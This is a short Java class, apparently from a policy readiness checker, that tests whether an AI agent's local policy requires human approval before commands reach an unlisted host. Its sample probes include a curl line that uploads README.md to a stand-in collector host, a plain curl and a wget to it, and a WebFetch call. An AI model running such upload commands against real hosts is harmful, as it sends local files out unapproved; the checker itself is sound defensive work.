package dev.countersign.cli.readiness;

import dev.countersign.policy.language.Effect;
import java.util.List;

/** A host that nobody has listed is not reached without people. */
final class EgressControl implements PolicyPoint {
    private static final String NOWHERE = "https://collector.unlisted-host.net/";

    private static final List<String> LINES =
            List.of(
                    "curl " + NOWHERE,
                    "curl --data-binary @README.md " + NOWHERE,
                    "wget -qO- " + NOWHERE);

    @Override
    public Finding judged(Launch launch, LocalPolicy.Sound policy) {
        var evidence = new Evidence();
        LINES.forEach(
                line ->
                        Probe.line(line, policy)
                                .mustBe(Effect.REQUIRE_APPROVAL, "", launch, evidence));
        new Probe("WebFetch " + NOWHERE, policy.call("WebFetch", "url", NOWHERE))
                .mustBe(Effect.REQUIRE_APPROVAL, "", launch, evidence);
        return evidence.finding(
                "Say defaults: {network: deny}, and list the hosts that are needed.", "");
    }
}
